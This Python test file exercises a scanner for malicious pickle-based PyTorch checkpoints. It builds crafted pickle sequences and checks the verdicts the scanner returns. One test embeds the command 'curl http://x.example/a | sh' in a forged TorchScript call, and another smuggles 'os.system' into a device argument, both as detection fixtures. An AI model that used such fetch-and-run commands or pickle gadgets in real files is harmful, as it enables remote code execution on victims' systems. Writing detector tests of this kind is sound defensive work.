from __future__ import annotations

import io
from typing import Any

import pytest
from tests.formats.assemble import (
    EMPTY_DICT,
    EMPTY_TUPLE,
    FALSE,
    NONE,
    call,
    checkpoint,
    data,
    fetch,
    number,
    pickle,
    tensor,
    text,
    tup,
)
from tests.formats.pickle.opinions import worst
from tests.scan.examine import examine
from tests.torch_files import needs_torch

from modelward.core.finding import Verdict
from modelward.formats.pickle.judge import Opinion

HOOKS = call("collections", "OrderedDict")
LAYER = fetch("torch.nn.modules.conv", "Conv2d") + EMPTY_TUPLE + b"\x81"


@pytest.mark.parametrize(
    ("value", "opinion"),
    [
        (tensor(), Opinion.ALLOWED),
        (call("torch._utils", "_rebuild_parameter", tensor(), FALSE, HOOKS), Opinion.ALLOWED),
        (call("torch._utils", "_rebuild_parameter", text("x"), FALSE, HOOKS), Opinion.MISUSED),
        (
            call("torch._utils", "_rebuild_parameter_with_state", tensor(), FALSE, HOOKS, EMPTY_DICT),
            Opinion.ALLOWED,
        ),
        (LAYER + EMPTY_DICT + b"b", Opinion.ALLOWED),
        (LAYER + EMPTY_DICT + text("forward") + fetch("builtins", "getattr") + b"sb", Opinion.MISUSED),
        (
            LAYER + EMPTY_DICT + text("activation") + fetch("torch.nn.functional", "relu") + b"sb",
            Opinion.ALLOWED,
        ),
        (call("builtins", "getattr", fetch("torch._C", "_VariableFunctions"), text("relu")), Opinion.ALLOWED),
        (
            call("builtins", "getattr", fetch("torch._C", "_VariableFunctions"), text("relu"))
            + EMPTY_TUPLE
            + b"R",
            Opinion.MISUSED,
        ),
        (call("torch", "device", text("cuda:0")), Opinion.ALLOWED),
        (call("torch", "device", text("os.system")), Opinion.MISUSED),
        (call("torch", "Size", tup(number(1))), Opinion.ALLOWED),
        (call("torch.torch_version", "TorchVersion", text("2.1.0")), Opinion.ALLOWED),
        (call("torch.jit._pickle", "build_intlist", EMPTY_TUPLE), Opinion.MISUSED),
        (call("torch.storage", "_load_from_bytes", data(b"")), Opinion.ALLOWED),
        (fetch("torch.optim.adam", "Adam") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + b"b", Opinion.ALLOWED),
        (fetch("torch", "float16"), Opinion.ALLOWED),
        (
            call("builtins", "getattr", fetch("torch.distributed.fsdp.api", "StateDictType"), text("A")),
            Opinion.ALLOWED,
        ),
        (
            call("builtins", "getattr", fetch("torch.distributed.fsdp.api", "CPUOffload"), text("a")),
            Opinion.UNKNOWN,
        ),
        (
            fetch("torch.distributed.fsdp.api", "CPUOffload") + EMPTY_TUPLE + b"\x81" + EMPTY_DICT + b"b",
            Opinion.ALLOWED,
        ),
        (call("torch", "load", text("x")), Opinion.SINK),
        (call("torch.nn.functional", "relu", NONE), Opinion.SINK),
    ],
)
def test_parts_of_checkpoints(value: bytes, opinion: Opinion) -> None:
    assert worst(pickle(value), torch=True) is opinion


def test_class_of_torchscript_is_unknown_but_in_an_archive_that_has_its_code() -> None:
    made = fetch("__torch__.acme", "Net") + EMPTY_TUPLE + b"\x81"
    assert worst(pickle(made), torch=True) is Opinion.UNKNOWN
    assert examine(checkpoint(made).bytes()).verdict is Verdict.UNVERIFIED
    assert examine(checkpoint(EMPTY_DICT).bytes()).verdict is Verdict.CLEAN


def test_command_for_a_class_of_torchscript_is_an_attack_in_any_archive() -> None:
    made = call("__torch__.acme", "run", text("curl http://x.example/a | sh"))
    assert worst(pickle(made), torch=True) is Opinion.SUSPICIOUS
    assert examine(checkpoint(made).bytes()).verdict is Verdict.MALICIOUS
    archive = checkpoint(made).add("archive/constants.pkl", pickle(EMPTY_TUPLE))
    assert examine(archive.bytes()).verdict is Verdict.MALICIOUS


@needs_torch
def test_models_that_torch_writes_are_clean() -> None:
    import torch

    layer = torch.nn.TransformerEncoderLayer(8, 2, dim_feedforward=8, activation="gelu")
    parameter = torch.nn.Parameter(torch.ones(2))
    optimizer = torch.optim.Adam([parameter])
    parameter.grad = torch.ones(2)
    optimizer.step()
    values: list[Any] = [
        layer,
        torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.ReLU()),
        torch.nn.LSTM(2, 2),
        optimizer.state_dict(),
        optimizer,
        {"sparse": torch.eye(3).to_sparse(), "kind": torch.bfloat16, "device": torch.device("cpu")},
    ]
    for value in values:
        for zipped in (True, False):
            out = io.BytesIO()
            torch.save(value, out, _use_new_zipfile_serialization=zipped)
            assert examine(out.getvalue(), "model.pt").verdict is Verdict.CLEAN
